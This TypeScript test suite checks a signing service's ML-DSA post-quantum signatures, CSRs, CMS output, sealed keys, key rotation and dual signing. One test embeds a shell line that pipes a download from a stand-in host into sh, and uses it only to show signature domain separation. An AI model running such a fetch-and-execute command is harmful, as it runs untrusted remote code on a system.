import {
  createHash,
  createPrivateKey,
  createPublicKey,
  randomBytes,
  sign as signBy,
  verify,
  X509Certificate,
} from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { ml_dsa44, ml_dsa65, ml_dsa87 } from '@noble/post-quantum/ml-dsa.js';
import { ContentInfo, SignedData } from '@peculiar/asn1-cms';
import { CertificationRequest } from '@peculiar/asn1-csr';
import { AsnConvert } from '@peculiar/asn1-schema';
import { AlgorithmIdentifier, Certificate, Extensions, TBSCertificate, Validity, Version } from '@peculiar/asn1-x509';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Authority } from '../support/authority.js';
import type { Answer, Service } from '../support/service.js';
import { createKey, digestOf, type PublishedKey, publishedKey, read, sign, verifies } from '../support/signing.js';
import { openStage, type Stage } from '../support/stage.js';

/** Key types with an implementation that shares no code with OpenSSL, and with the sizes of FIPS 204 table 2. */
const KINDS = {
  'ml-dsa-44': { noble: ml_dsa44, publicKey: 1312, signature: 2420, oid: '2.16.840.1.101.3.4.3.17' },
  'ml-dsa-65': { noble: ml_dsa65, publicKey: 1952, signature: 3309, oid: '2.16.840.1.101.3.4.3.18' },
  'ml-dsa-87': { noble: ml_dsa87, publicKey: 2592, signature: 4627, oid: '2.16.840.1.101.3.4.3.19' },
} as const;
const TYPES = Object.keys(KINDS) as (keyof typeof KINDS)[];

let stage: Stage;
let service: Service;
let apiKey: string;
const keys = new Map<string, PublishedKey>();

beforeAll(async () => {
  stage = await openStage();
  ({ apiKey } = await stage.seed());
  service = await stage.start();
  for (const type of TYPES) keys.set(type, await createKey(service, apiKey, { name: `of-${type}`, type }));
});
afterAll(() => stage.close());

const keyOf = (type: string) => keys.get(type) as PublishedKey & Record<string, unknown>;

/** Returns the raw key, which is at the end of a SubjectPublicKeyInfo. */
function bareKey(publicKey: string, size: number): Buffer {
  return createPublicKey(publicKey).export({ type: 'spki', format: 'der' }).subarray(-size);
}

/** Context string of signatures over a SHA-256 digest. */
const OF_DIGEST = Buffer.from('sealwright digest sha256');

function accepted(
  type: keyof typeof KINDS,
  message: Buffer,
  signature: Buffer,
  context = Buffer.alloc(0),
): { node: boolean; noble: boolean } {
  const { noble, publicKey } = KINDS[type];
  const pem = keyOf(type).publicKey;
  return {
    node: verify(null, message, { key: createPublicKey(pem), context }, signature),
    noble: noble.verify(signature, message, bareKey(pem, publicKey), { context }),
  };
}

const YES = { node: true, noble: true };
const NO = { node: false, noble: false };

function flipped(bytes: Buffer, at: number): Buffer {
  const copy = Buffer.from(bytes);
  copy.writeUInt8(copy.readUInt8(at) ^ 1, at);
  return copy;
}

const post = (path: string, body: object): Promise<Answer> => service.call('POST', path, { key: apiKey, body });
const bytesOf = (pem: string): Buffer => Buffer.from(pem.replaceAll(/-----[^-]+-----/g, ''), 'base64');

async function requestOf(type: string): Promise<CertificationRequest> {
  const { body } = await post(`/api/v1/signing-keys/${keyOf(type).id}/csr`, { subject: { commonName: type } });
  return AsnConvert.parse(bytesOf(body.csr), CertificationRequest);
}

/** Encodes signed attributes as a SET OF, the form that is signed (RFC 5652 section 5.4). Supports 128 to 65,535 bytes. */
function setOf(elements: Buffer[]): Buffer {
  const contents = Buffer.concat(elements);
  const length = contents.length < 256 ? [0x81, contents.length] : [0x82, contents.length >> 8, contents.length & 0xff];
  return Buffer.concat([Buffer.from([0x31, ...length]), contents]);
}

/** Issues a certificate for a request with the authority's key. `Authority` uses openssl 3.0, which does not support ML-DSA. */
function issue(authority: Authority, { certificationRequestInfo: info }: CertificationRequest): string {
  const issuing = new X509Certificate(readFileSync(authority.intermediate));
  const { tbsCertificate } = AsnConvert.parse(issuing.raw, Certificate);
  const [wanted] = info.attributes?.[0]?.values ?? [];
  const toBeSigned = new TBSCertificate({
    version: Version.v3,
    serialNumber: new Uint8Array([1, ...randomBytes(8)]).buffer,
    signature: new AlgorithmIdentifier({ algorithm: '1.2.840.10045.4.3.2' }),
    issuer: tbsCertificate.subject,
    validity: new Validity({ notBefore: new Date(Date.now() - 1000), notAfter: new Date(Date.now() + 86_400_000) }),
    subject: info.subject,
    subjectPublicKeyInfo: info.subjectPKInfo,
    extensions: AsnConvert.parse(wanted ?? new ArrayBuffer(0), Extensions),
  });
  const key = createPrivateKey(readFileSync(join(authority.directory, 'intermediate.key')));
  const signature = signBy('sha256', Buffer.from(AsnConvert.serialize(toBeSigned)), key);
  const signatureAlgorithm = toBeSigned.signature;
  const der = AsnConvert.serialize(
    new Certificate({
      tbsCertificate: toBeSigned,
      signatureAlgorithm,
      signatureValue: new Uint8Array(signature).buffer,
    }),
  );
  return new X509Certificate(Buffer.from(der)).toString();
}

describe.each(TYPES)('%s', (type) => {
  it('signs a digest that OpenSSL and an independent implementation accept, and reject with one byte flipped', async () => {
    const digest = createHash('sha256').update(randomBytes(50)).digest();
    const answer = await sign(service, { key: apiKey, body: { digest: digest.toString('base64'), key: `of-${type}` } });
    expect(answer).toMatchObject({ status: 200, body: { scheme: 'ml-dsa', format: 'raw' } });
    const signature = Buffer.from(answer.body.signature, 'base64');
    expect(signature).toHaveLength(KINDS[type].signature);
    expect(accepted(type, digest, signature, OF_DIGEST)).toEqual(YES);
    const other = Buffer.from(signature);
    other.writeUInt8(other.readUInt8(100) ^ 1, 100);
    expect(accepted(type, digest, other, OF_DIGEST)).toEqual(NO);
    const asked = { digest: digest.toString('base64'), key: `of-${type}` };
    const verdicts = await Promise.all(
      [signature, other].map(async (one) => {
        const body = { ...asked, signature: one.toString('base64') };
        return (await service.call('POST', '/api/v1/verify', { key: apiKey, body })).body.valid;
      }),
    );
    expect(verdicts).toEqual([true, false]);
  });

  it('makes no signature over a digest that verifies as one over a document with the same bytes', async () => {
    const script = Buffer.concat([
      Buffer.from('#!/bin/sh\ncurl x.example|sh;exit\n').subarray(0, 31),
      Buffer.from([0xff]),
    ]);
    const answer = await sign(service, { key: apiKey, body: { digest: script.toString('base64'), key: `of-${type}` } });
    const signature = Buffer.from(answer.body.signature, 'base64');
    expect(accepted(type, script, signature)).toEqual(NO);
    expect(accepted(type, script, signature, OF_DIGEST)).toEqual(YES);
  });

  it('reports where the private key is stored', async () => {
    expect(keyOf(type)).toMatchObject({
      type,
      protection: 'sealed-software',
      evidence: { local: false, sensitive: false, extractable: true, neverExtractable: false },
    });
    expect(await publishedKey(service, apiKey, 'default')).toMatchObject({ protection: 'hsm' });
  });
});

describe('OpenSSL (in Node) and an independent implementation accept ML-DSA structures, but no flipped byte', () => {
  let authority: Authority;
  beforeAll(() => void (authority = new Authority()));
  afterAll(() => authority.remove());

  it.each(TYPES)('%s: a certificate signing request (RFC 9881)', async (type) => {
    const { certificationRequestInfoRaw, signature, signatureAlgorithm } = await requestOf(type);
    expect(signatureAlgorithm).toMatchObject({ algorithm: KINDS[type].oid });
    const [info, value] = [Buffer.from(certificationRequestInfoRaw ?? new ArrayBuffer(0)), Buffer.from(signature)];
    expect(accepted(type, info, value)).toEqual(YES);
    expect(accepted(type, flipped(info, info.indexOf(type)), value)).toEqual(NO);
    const { body } = await service.call('GET', '/api/v1/sign/requests?limit=1', { key: apiKey });
    const { requestId } = body.items[0];
    expect((await post('/api/v1/verify', { requestId })).body).toMatchObject({ valid: true });
  });

  it.each(TYPES)('%s: a detached CMS with signed attributes (RFC 9882)', async (type) => {
    const leaf = issue(authority, await requestOf(type));
    const chain = `${leaf}${readFileSync(authority.intermediate, 'utf8')}`;
    expect((await post(`/api/v1/signing-keys/${keyOf(type).id}/certificate`, { chain })).status).toBe(201);
    const content = randomBytes(100);
    const digest = createHash('sha512').update(content).digest();
    const order = { digest: digest.toString('base64'), algorithm: 'sha512', key: `of-${type}`, format: 'cms' };
    const { status, body } = await sign(service, { key: apiKey, body: order });
    expect({ status, scheme: body.scheme }).toEqual({ status: 200, scheme: 'ml-dsa' });
    const cms = Buffer.from(body.signature, 'base64');
    const { content: inner } = AsnConvert.parse(cms, ContentInfo);
    const { signerInfos, certificates } = AsnConvert.parse(inner, SignedData);
    const [signer] = signerInfos;
    expect(signer?.signatureAlgorithm).toMatchObject({ algorithm: KINDS[type].oid });
    const attributes = setOf((signer?.signedAttrs ?? []).map((one) => Buffer.from(AsnConvert.serialize(one))));
    expect(attributes.includes(digest)).toBe(true);
    const signature = Buffer.from(signer?.signature.buffer ?? new ArrayBuffer(0));
    expect(accepted(type, attributes, signature)).toEqual(YES);
    expect(accepted(type, flipped(attributes, attributes.indexOf(digest)), signature)).toEqual(NO);
    const [own] = (certificates ?? []).map(({ certificate }) => AsnConvert.serialize(certificate));
    expect(
      new X509Certificate(Buffer.from(own ?? new ArrayBuffer(0))).publicKey.equals(
        createPublicKey(keyOf(type).publicKey),
      ),
    ).toBe(true);
    const verdicts = await Promise.all(
      [cms, flipped(cms, cms.length - 9)].map(async (one) => {
        const { body: verdict } = await post('/api/v1/verify', { ...order, signature: one.toString('base64') });
        return verdict.valid;
      }),
    );
    expect(verdicts).toEqual([true, false]);
  });

  it.each([
    ['ml-dsa-65', 'sha256'],
    ['ml-dsa-87', 'sha384'],
  ])('%s: rejects a digest weaker than the key: %s', async (type, algorithm) => {
    const order = { digest: digestOf('x', algorithm), algorithm, key: `of-${type}`, format: 'cms' };
    expect(await sign(service, { key: apiKey, body: order })).toMatchObject({
      status: 400,
      body: { code: 'algorithm.wrong-format' },
    });
  });
});

describe('a sealed private key', () => {
  it('is stored as ciphertext, and opens for no other key', async () => {
    const rows = await stage.sql<{ id: string; sealed: Buffer }>(
      `SELECT key_id AS id, sealed FROM signing_key_version WHERE sealed IS NOT NULL`,
    );
    const algorithm = Buffer.from('0609608648016503040312', 'hex'); // id-ml-dsa-65, present in every PKCS #8 key of this type
    expect(rows).toHaveLength(3);
    expect(rows.some(({ sealed }) => sealed.includes(algorithm))).toBe(false);
    const exchanged = await createKey(service, apiKey, { name: 'exchanged', type: 'ml-dsa-65' });
    await stage.sql(
      `UPDATE signing_key_version SET sealed = (SELECT sealed FROM signing_key_version WHERE key_id = $1) WHERE key_id = $2`,
      [keyOf('ml-dsa-65').id, exchanged.id],
    );
    const answer = await sign(service, { key: apiKey, body: { digest: digestOf('x'), key: 'exchanged' } });
    expect(answer).toMatchObject({ status: 422, body: { code: 'hsm.not-authentic' } });
  });

  it('signs in the background too, in another process', async () => {
    const body = { digest: digestOf('later'), key: 'of-ml-dsa-65', async: true };
    const { body: asked } = await sign(service, { key: apiKey, body });
    const { body: done } = await read(service, apiKey, asked.requestId);
    const digest = Buffer.from(body.digest, 'base64');
    expect(accepted('ml-dsa-65', digest, Buffer.from(done.signature, 'base64'), OF_DIGEST)).toEqual(YES);
  });

  it('is replaced by a rotation, and the old signature still verifies', async () => {
    const key = await createKey(service, apiKey, { name: 'rotates', type: 'ml-dsa-44' });
    const body = { digest: digestOf('x'), key: 'rotates' };
    const old = await sign(service, { key: apiKey, body });
    expect(
      (await service.call('POST', `/api/v1/signing-keys/${key.id}/rotate`, { key: apiKey, body: {} })).status,
    ).toBe(201);
    const fresh = await sign(service, { key: apiKey, body });
    const versions = await Promise.all(
      [old, fresh].map(async (one) => {
        const asked = { ...body, signature: one.body.signature };
        return (await service.call('POST', '/api/v1/verify', { key: apiKey, body: asked })).body.key.version;
      }),
    );
    expect(versions).toEqual([1, 2]);
  });
});

describe('POST /api/v1/sign/dual', () => {
  const dual = (body: object) => service.call('POST', '/api/v1/sign/dual', { key: apiKey, body });

  it('signs one digest with an EC key and an ML-DSA key', async () => {
    const message = randomBytes(30);
    const digest = digestOf(message);
    const { status, body } = await dual({ digest, key: 'default', postQuantumKey: 'of-ml-dsa-87' });
    expect({ status, state: body.status }).toEqual({ status: 200, state: 'DONE' });
    const [classical, postQuantum] = body.items;
    expect([classical.scheme, postQuantum.scheme]).toEqual(['ecdsa-der', 'ml-dsa']);
    const key = await publishedKey(service, apiKey, 'default');
    expect(verifies(message, key, Buffer.from(classical.signature, 'base64'))).toBe(true);
    const signature = Buffer.from(postQuantum.signature, 'base64');
    expect(accepted('ml-dsa-87', Buffer.from(digest, 'base64'), signature, OF_DIGEST)).toEqual(YES);
  });

  it.each([
    ['two of one family', { key: 'default', postQuantumKey: 'demo-rsa' }, '/postQuantumKey'],
    ['them the wrong way round', { key: 'of-ml-dsa-44', postQuantumKey: 'default' }, '/key'],
  ])('rejects %s', async (_, named, pointer) => {
    expect(await dual({ digest: digestOf('x'), ...named })).toMatchObject({
      status: 400,
      body: { code: 'dual.keys', errors: [{ pointer }] },
    });
  });
});

describe('an ML-DSA key rejects', () => {
  it.each(['jws', 'sigstore-bundle'])('the format %s', async (format) => {
    const answer = await sign(service, { key: apiKey, body: { digest: digestOf('x'), key: 'of-ml-dsa-44', format } });
    expect(answer).toMatchObject({
      status: 400,
      body: { code: 'scheme.wrong-format', errors: [{ pointer: '/format' }] },
    });
  });

  it('another scheme, and timestamps', async () => {
    const scheme = await sign(service, {
      key: apiKey,
      body: { digest: digestOf('x'), key: 'of-ml-dsa-44', scheme: 'ecdsa-der' },
    });
    expect(scheme.body).toMatchObject({ code: 'scheme.wrong-key' });
    const tsa = { key: apiKey, body: { name: 'tsa-pq', type: 'ml-dsa-44', purpose: 'timestamping' } };
    expect((await service.call('POST', '/api/v1/signing-keys', tsa)).body.code).toBe('signing-key.type');
  });
});
